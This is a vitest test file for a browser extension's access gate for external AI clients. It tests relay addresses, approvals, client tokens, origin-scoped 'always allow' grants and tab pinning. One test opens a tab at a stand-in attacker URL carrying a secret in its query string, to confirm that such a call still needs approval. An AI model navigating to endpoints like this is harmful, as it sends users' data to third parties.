import { describe, expect, it, vi } from 'vitest';
import {
  summarizeArguments,
  createActivityLog,
  MAX_ENTRIES,
} from '../../../src/browser-access/activity-log';
import { createApprovalBroker } from '../../../src/browser-access/approvals';
import {
  createChatBrowserTools,
  MAX_CHAT_PINS,
} from '../../../src/browser-access/chat-browser-tools';
import type { ClientRecord } from '../../../src/browser-access/client-record';
import { createClientRegistry } from '../../../src/browser-access/clients';
import { createGate } from '../../../src/browser-access/gate';
import { browserHubTools, type HubTool } from '../../../src/browser-access/hub';
import { extensionSocketUrl } from '../../../src/browser-access/relay-address';
import { BROWSER_ACCESS_CLIENTS_KEY } from '../../../src/browser-access/settings';
import { createBrowserTools } from '../../../src/browser-tools/browser-tools';
import type { CallTarget } from '../../../src/browser-tools/tab-target';
import type { ApprovalView } from '../../../src/messaging/browser-access-contract';
import { createMemoryStore } from '../../../src/platform/memory';
import { definitionOf } from '../../../src/policy/grants';
import { shareAttention } from '../../../src/platform/shared-attention';
import { stubBrowserControl } from '../../helpers/browser-access-harness';

describe('the relay address', () => {
  it.each([
    ['http://127.0.0.1:3456', 'ws://127.0.0.1:3456/extension'],
    ['http://localhost:3456/', 'ws://localhost:3456/extension'],
    ['https://relay.example.com/mcp', 'wss://relay.example.com/extension'],
    ['wss://relay.example.com/base/', 'wss://relay.example.com/base/extension'],
    ['ws://127.0.0.1:9/extension?x=1', 'ws://127.0.0.1:9/extension'],
  ])('%s connects to %s', (address, socket) => {
    expect(extensionSocketUrl(address)).toBe(socket);
  });

  it.each([
    ['', /Enter the relay’s address/],
    ['relay.example.com', /not an address/],
    ['ftp://relay.example.com', /starts with http/],
    ['http://relay.example.com', /must use https/],
    ['ws://[::1]:9', /must use https/],
    ['https://user:secret@relay.example.com', /Token field/],
  ])('refuses %j', (address, message) => {
    expect(() => extensionSocketUrl(address)).toThrow(message);
  });
});

const approval = (id: string, clientId = 'c1'): ApprovalView => ({
  id,
  clientId,
  clientName: 'Desk',
  clientUser: 'alice',
  tokenHint: '1a2b3c4d',
  newClient: false,
  tool: 'click',
  description: '',
  source: 'This browser',
  arguments: {},
  requestedAt: 0,
});

describe('approvals', () => {
  it('wait for the answer, and list what waits', async () => {
    const seen: number[] = [];
    const broker = createApprovalBroker((waiting) => seen.push(waiting.length));
    const asked = broker.ask(approval('a'), new AbortController().signal);
    expect(broker.list().map((view) => view.id)).toEqual(['a']);
    expect(broker.answer('a', 'always')).toBe(true);
    await expect(asked).resolves.toBe('always');
    expect(broker.answer('a', 'deny')).toBe(false);
    expect(seen).toEqual([1, 0]);
  });

  it('end as gone when the client gives up, and as timeout when nobody answers', async () => {
    const broker = createApprovalBroker(() => undefined);
    const controller = new AbortController();
    const gone = broker.ask(approval('a'), controller.signal);
    controller.abort();
    await expect(gone).resolves.toBe('gone');
    await expect(broker.ask(approval('b'), new AbortController().signal, 5)).resolves.toBe(
      'timeout',
    );
    expect(broker.list()).toEqual([]);
  });

  it('are all denied at once, or one client’s', async () => {
    const broker = createApprovalBroker(() => undefined);
    const signal = new AbortController().signal;
    const mine = broker.ask(approval('a', 'c1'), signal);
    const theirs = broker.ask(approval('b', 'c2'), signal);
    broker.denyAll('c1');
    await expect(mine).resolves.toBe('deny');
    expect(broker.list().map((view) => view.id)).toEqual(['b']);
    broker.denyAll();
    await expect(theirs).resolves.toBe('deny');
  });
});

describe('the activity log', () => {
  it('summarizes arguments briefly', () => {
    expect(summarizeArguments({ url: 'https://example.com', tabId: 3 })).toBe(
      'url: "https://example.com", tabId: 3',
    );
    const long = summarizeArguments({ text: 'x'.repeat(500), more: 'y'.repeat(500) });
    expect(long.length).toBeLessThanOrEqual(240);
    expect(long).toContain('…');
  });

  it('keeps the newest entries, survives a new worker, and clears', async () => {
    const store = createMemoryStore();
    const log = createActivityLog(store, () => undefined);
    for (let index = 0; index < MAX_ENTRIES + 5; index += 1) {
      await log.add({
        time: index,
        clientId: 'c',
        clientName: 'C',
        tool: `t${index}`,
        summary: '',
        outcome: 'ok',
      });
    }
    const again = createActivityLog(store, () => undefined);
    const entries = await again.list();
    expect(entries).toHaveLength(MAX_ENTRIES);
    expect(entries[0]?.tool).toBe(`t${MAX_ENTRIES + 4}`);
    await again.clear();
    expect(await createActivityLog(store, () => undefined).list()).toEqual([]);
  });
});

describe('clients', () => {
  const identity = { user: 'alice', token: 'jti-1', name: 'Desk', version: '1.0' };

  it('are their token: another name on it is the same client, another token is not', async () => {
    const store = createMemoryStore();
    const clients = createClientRegistry(store);
    const desk = await clients.identify(identity);
    expect(desk.policy).toBe('new');
    expect((await clients.identify({ ...identity, name: 'Claude' })).id).toBe(desk.id);
    expect((await clients.get(desk.id))?.otherNames).toEqual(['Claude']);
    expect((await clients.identify({ ...identity, token: 'jti-2' })).id).not.toBe(desk.id);
    expect((await clients.identify({ ...identity, user: 'bob' })).id).not.toBe(desk.id);
    await clients.setPolicy(desk.id, 'read-only');
    const again = createClientRegistry(store);
    expect((await again.identify(identity)).policy).toBe('read-only');
  });

  it('keep new clients in memory only, so made-up ones cannot push out decisions', async () => {
    const store = createMemoryStore();
    const clients = createClientRegistry(store);
    const desk = await clients.identify(identity);
    await clients.setPolicy(desk.id, 'blocked');
    for (let index = 0; index < 120; index += 1)
      await clients.identify({ ...identity, token: `made-up-${index}` });
    const again = createClientRegistry(store);
    const views = await again.views();
    expect(views.map((view) => [view.id, view.policy])).toEqual([[desk.id, 'blocked']]);
    expect((await clients.views()).length).toBe(51);
  });

  it('count connections, remember tools as described, and forget', async () => {
    const clients = createClientRegistry(createMemoryStore());
    const desk = await clients.identify(identity);
    const end = clients.opened(desk.id);
    clients.opened(desk.id);
    end();
    end();
    expect((await clients.views())[0]?.connected).toBe(1);
    await clients.allowAlways(desk.id, 'click', described('v1'));
    await clients.allowAlways(desk.id, 'click', described('v2'));
    expect(await clients.get(desk.id)).toMatchObject({
      policy: 'ask',
      alwaysAllow: [{ name: 'click', definition: described('v2') }],
    });
    await clients.forget(desk.id);
    await expect(clients.setPolicy(desk.id, 'all')).rejects.toMatchObject({ code: 'not-found' });
  });
});

describe('a client’s token hint', () => {
  it('is the start of its token’s id, and replaces a hint saved the old way', async () => {
    const store = createMemoryStore();
    const clients = createClientRegistry(store);
    const token = '5f0c2a9e-61b4-4d1e-9a70-2c7d1b8e4f10';
    const desk = await clients.identify({ user: 'alice', token, name: 'Desk' });
    expect(desk.tokenHint).toBe('5f0c2a9e');
    await clients.setPolicy(desk.id, 'ask');
    const saved = store.snapshot()[BROWSER_ACCESS_CLIENTS_KEY] as ClientRecord[];
    await store.set({ [BROWSER_ACCESS_CLIENTS_KEY]: [{ ...saved[0], tokenHint: '8e4f10' }] });
    const again = createClientRegistry(store);
    expect((await again.identify({ user: 'alice', token, name: 'Desk' })).tokenHint).toBe(
      '5f0c2a9e',
    );
    const reloaded = createClientRegistry(store);
    expect((await reloaded.get(desk.id))?.tokenHint).toBe('5f0c2a9e');
  });
});

/** The person shows their inbox (another origin) in place of tab 1. */
async function showInbox(control: ReturnType<typeof stubBrowserControl>) {
  (await control.getTab(1))!.active = false;
  await control.openTab('https://mail.example/inbox', true);
}

/** Storage holding one client, let in and asking, with `alwaysAllow` as saved. */
function storedClient(id: string, alwaysAllow: unknown[]) {
  const now = Date.now();
  const record = { id, name: 'Desk', otherNames: [], user: 'alice', tokenHint: 'jti-1234' };
  return createMemoryStore({
    [BROWSER_ACCESS_CLIENTS_KEY]: [
      { ...record, policy: 'ask', alwaysAllow, firstSeen: now, lastSeen: now },
    ],
  });
}

/** A tool's definition whose description is `text`. */
const described = (text: string) => ({ description: text, inputSchema: '{}', annotations: '{}' });

const EXAMPLE_TAB: CallTarget = {
  tab: { tabId: 1, url: 'https://example.com/', title: 'Example', documentId: 'doc-1-0' },
};

describe('the gate’s tab for a browser tool', () => {
  async function setup(policy: 'new' | 'ask' | 'read-only' | 'all') {
    const control = stubBrowserControl();
    const clients = createClientRegistry(createMemoryStore());
    const approvals = createApprovalBroker(() => undefined);
    // The gate checks the switch as it decides and again just before the call runs: a test
    // acts there, between the decision and the run.
    let checks = 0;
    const between = { act: async () => undefined as unknown };
    const gate = createGate({
      clients,
      approvals,
      activity: createActivityLog(createMemoryStore(), () => undefined),
      enabled: async () => {
        checks += 1;
        if (checks === 2) await between.act();
        return true;
      },
      onAllowed: () => undefined,
    });
    let client = await clients.identify({ user: 'alice', token: 'jti-12345678', name: 'Desk' });
    if (policy !== 'new') {
      await clients.setPolicy(client.id, policy);
      client = (await clients.get(client.id))!;
    }
    const tools = browserHubTools(createBrowserTools(control));
    const tool = (name: string) => tools.find((each) => each.name === name)!;
    /** Calls through the gate, running the tool as the MCP server does; the targets it ran on. */
    const ranOn: (CallTarget | undefined)[] = [];
    const call = (hub: HubTool, args: Record<string, unknown>) =>
      gate.call(client, hub, args, new AbortController().signal, (target) => {
        ranOn.push(target);
        return hub.run(args, new AbortController().signal, target ? { target } : {});
      });
    return { control, approvals, tool, call, ranOn, between };
  }

  const textOf = (result: { content: Record<string, unknown>[] }) =>
    result.content.map((block) => String(block.text ?? '')).join('\n');

  it('is resolved before asking, shown on the card, and what the approved call runs on', async () => {
    const { control, approvals, tool, call, ranOn } = await setup('ask');
    const result = call(tool('read_page'), {});
    await vi.waitFor(() => expect(approvals.list()).toHaveLength(1));
    const [view] = approvals.list();
    expect(view).toMatchObject({
      target: EXAMPLE_TAB.tab,
      clientName: 'Desk',
      clientUser: 'alice',
      tokenHint: 'jti-1234',
    });
    await showInbox(control);
    approvals.answer(view!.id, 'approve');
    expect(textOf(await result)).toContain('Text of tab 1');
    expect(ranOn).toEqual([EXAMPLE_TAB]);
  });

  it.each(['all', 'read-only'] as const)(
    'is resolved as it decides when “%s” lets the call run unasked',
    async (policy) => {
      const { control, tool, call, ranOn, between } = await setup(policy);
      // The person switches tabs after the gate decided, before the read.
      between.act = () => showInbox(control);
      expect(textOf(await call(tool('read_page'), {}))).toContain('Text of tab 1');
      expect(ranOn).toEqual([EXAMPLE_TAB]);
    },
  );

  it('is none for tools that act on no tab, and a missing one refuses', async () => {
    const { control, approvals, tool, call, ranOn } = await setup('all');
    await call(tool('tabs_list'), {});
    (await control.getTab(1))!.active = false;
    const refused = call(tool('read_page'), {});
    expect(textOf(await refused)).toBe('No tab is active; open one with tab_open.');
    expect(ranOn).toEqual([undefined, { missing: 'No tab is active; open one with tab_open.' }]);
    expect(approvals.list()).toEqual([]);
  });

  it('is a missing one when the tab cannot be told', async () => {
    const { control, approvals, tool, call } = await setup('ask');
    control.activeTab = async () => {
      throw new Error('tabs are gone');
    };
    const result = call(tool('read_page'), {});
    await vi.waitFor(() => expect(approvals.list()).toHaveLength(1));
    expect(approvals.list()[0]?.target).toBeUndefined();
    approvals.answer(approvals.list()[0]!.id, 'approve');
    expect(textOf(await result)).toMatch(/could not tell which tab.*tabs are gone/);
  });
});

describe('an external client’s “always allow” of a browser tool', () => {
  const identity = { user: 'alice', token: 'jti-12345678', name: 'Desk' };

  /** The gate over a registry in `store`; `identity` is a client the person lets in (ask). */
  async function setup(store = createMemoryStore()) {
    const control = stubBrowserControl();
    const clients = createClientRegistry(store);
    const approvals = createApprovalBroker(() => undefined);
    const gate = createGate({
      clients,
      approvals,
      activity: createActivityLog(createMemoryStore(), () => undefined),
      enabled: async () => true,
      onAllowed: () => undefined,
    });
    const { id } = await clients.identify(identity);
    await clients.setPolicy(id, 'ask');
    const tools = browserHubTools(createBrowserTools(control));
    const asked: string[] = [];
    /** Calls through the gate, answering a card with `answer` if one comes. */
    const call = async (
      name: string,
      args: Record<string, unknown>,
      answer: 'approve' | 'always' = 'approve',
    ) => {
      const client = (await clients.get(id))!;
      const hub = tools.find((each) => each.name === name)!;
      const result = gate.call(client, hub, args, new AbortController().signal, (target) =>
        hub.run(args, new AbortController().signal, target ? { target } : {}),
      );
      const first = await Promise.race([
        result.then(() => 'ran' as const),
        vi.waitFor(() => expect(approvals.list()).toHaveLength(1)).then(() => 'asked' as const),
      ]);
      if (first === 'asked') {
        asked.push(name);
        approvals.answer(approvals.list()[0]!.id, answer);
      }
      return result;
    };
    return { control, clients, id, call, asked, tools };
  }

  it('holds on the origin it was given on, and asks again on another', async () => {
    const { control, call, asked, clients, id } = await setup();
    await call('read_page', {}, 'always');
    await call('read_page', {});
    expect(asked).toEqual(['read_page']);
    expect((await clients.get(id))!.alwaysAllow).toEqual([
      expect.objectContaining({ name: 'read_page', origins: ['https://example.com'] }),
    ]);
    await showInbox(control);
    await call('read_page', {}, 'always');
    await call('read_page', {});
    expect(asked).toEqual(['read_page', 'read_page']);
    expect((await clients.get(id))!.alwaysAllow[0]?.origins).toEqual([
      'https://example.com',
      'https://mail.example',
    ]);
  });

  it('of tab_open holds for where it sends, not for the tab it came from', async () => {
    const { call, asked } = await setup();
    await call('tab_open', { url: 'https://news.example/a' }, 'always');
    await call('tab_open', { url: 'https://news.example/b' });
    await call('tab_open', { url: 'http://attacker.localhost:8080/collect?d=secret' });
    expect(asked).toEqual(['tab_open', 'tab_open']);
  });

  it('saved before grants had origins asks again, then holds on the site it is given on', async () => {
    const { id, tools } = await setup();
    const definition = definitionOf(tools.find((each) => each.name === 'read_page')!);
    const store = storedClient(id, [{ name: 'read_page', definition }]);
    const { call, asked } = await setup(store);
    await call('read_page', {}, 'always');
    await call('read_page', {});
    expect(asked).toEqual(['read_page']);
  });

  it('given where the tab cannot be told lets that call run and grants nothing', async () => {
    const { control, call, asked, clients, id } = await setup();
    const activeTab = control.activeTab.bind(control);
    control.activeTab = async () => {
      throw new Error('tabs are gone');
    };
    await call('read_page', {}, 'always');
    expect((await clients.get(id))!.alwaysAllow).toEqual([]);
    control.activeTab = activeTab;
    await call('read_page', {});
    expect(asked).toEqual(['read_page', 'read_page']);
  });

  it('of a server’s tool stays pinned to its description alone', async () => {
    const { clients, id } = await setup();
    await clients.allowAlways(id, 'notes__add_note', described('v1'));
    expect((await clients.get(id))!.alwaysAllow).toEqual([
      { name: 'notes__add_note', definition: described('v1') },
    ]);
  });

  it('saved as JSON text, before the chat’s and clients’ grants shared one format, still holds', async () => {
    const { id, tools } = await setup();
    const readPage = tools.find((each) => each.name === 'read_page')!;
    const store = storedClient(id, [
      {
        name: 'read_page',
        definition: JSON.stringify(definitionOf(readPage)),
        origins: ['https://example.com'],
      },
      { name: 'click', definition: '{"not": "a definition"' },
    ]);
    const { call, asked, clients } = await setup(store);
    await call('read_page', {});
    expect(asked).toEqual([]);
    // Written in the one format at the next save; the grant that did not read is gone.
    await clients.setPolicy(id, 'ask');
    const saved = store.snapshot()[BROWSER_ACCESS_CLIENTS_KEY] as ClientRecord[];
    expect(saved[0]?.alwaysAllow).toEqual([
      {
        name: 'read_page',
        definition: definitionOf(readPage),
        origins: ['https://example.com'],
      },
    ]);
  });
});

describe('the chat’s browser tools', () => {
  function setup(session = createMemoryStore(), control = stubBrowserControl()) {
    let inChat = true;
    const tools = createChatBrowserTools(createBrowserTools(control), async () => inChat, session);
    return { control, session, tools, switchOff: () => (inChat = false) };
  }

  it('pin the tab the card first asked about, and run the approved call on it once', async () => {
    const { control, tools } = setup();
    expect(await tools.targetForChat('call-1', 'read_page', {})).toEqual(EXAMPLE_TAB);
    await showInbox(control);
    // The card shows again (a new render, the panel reopened): the same tab.
    expect(await tools.targetForChat('call-1', 'read_page', {})).toEqual(EXAMPLE_TAB);
    expect(textOf(await tools.callFromChat('read_page', {}, 'call-1'))).toContain('Text of tab 1');
    // Used once: a later call with that id (or none) runs on the tab active then.
    expect(textOf(await tools.callFromChat('read_page', {}, 'call-1'))).toContain('Text of tab 2');
    expect(textOf(await tools.callFromChat('read_page', {}))).toContain('Text of tab 2');
  });

  it('keep pins through a worker restart', async () => {
    const first = setup();
    await first.tools.targetForChat('call-1', 'read_page', {});
    await showInbox(first.control);
    const restarted = setup(first.session, first.control);
    expect(textOf(await restarted.tools.callFromChat('read_page', {}, 'call-1'))).toContain(
      'Text of tab 1',
    );
  });

  it('refuse the approved call when its tab went to another origin', async () => {
    const { control, tools } = setup();
    await tools.targetForChat('call-1', 'read_page', {});
    (await control.getTab(1))!.url = 'https://mail.example/inbox';
    const refused = await tools.callFromChat('read_page', {}, 'call-1');
    expect(refused.isError).toBe(true);
    expect(textOf(refused)).toMatch(/now on https:\/\/mail\.example/);
  });

  it('pin nothing for tools that act on no tab, and only for a call of that tool', async () => {
    const { control, tools } = setup();
    expect(await tools.targetForChat('call-1', 'tabs_list', {})).toBeUndefined();
    await tools.targetForChat('call-2', 'snapshot', {});
    await showInbox(control);
    expect(textOf(await tools.callFromChat('read_page', {}, 'call-2'))).toContain('Text of tab 2');
  });

  it('keep one pin per call though two cards ask at once, and the newest pins only', async () => {
    const { session, tools } = setup();
    const [a, b] = await Promise.all([
      tools.targetForChat('call-1', 'read_page', {}),
      tools.targetForChat('call-1', 'read_page', {}),
    ]);
    expect(a).toEqual(b);
    for (let index = 0; index < MAX_CHAT_PINS + 5; index += 1)
      await tools.targetForChat(`more-${index}`, 'read_page', {});
    const pins = session.snapshot()['browser-access.chat-pins'] as { callId: string }[];
    expect(pins).toHaveLength(MAX_CHAT_PINS);
    expect(pins.at(-1)?.callId).toBe(`more-${MAX_CHAT_PINS + 4}`);
    expect(pins.some((pin) => pin.callId === 'call-1')).toBe(false);
  });

  it('are refused while “Use this browser” is off', async () => {
    const { tools, switchOff } = setup();
    switchOff();
    await expect(tools.targetForChat('call-1', 'read_page', {})).rejects.toMatchObject({
      code: 'not-enabled',
    });
    await expect(tools.callFromChat('read_page', {}, 'call-1')).rejects.toMatchObject({
      code: 'not-enabled',
    });
  });
});

const textOf = (result: { content: Record<string, unknown>[] }) =>
  result.content.map((block) => String(block.text ?? '')).join('\n');

describe('one badge for several waits', () => {
  it('shows the sum of what each reports', () => {
    const shown: number[] = [];
    const share = shareAttention({ showWaiting: (count) => shown.push(count) });
    const asks = share();
    const calls = share();
    asks.showWaiting(2);
    calls.showWaiting(1);
    asks.showWaiting(0);
    expect(shown).toEqual([2, 3, 1]);
  });
});
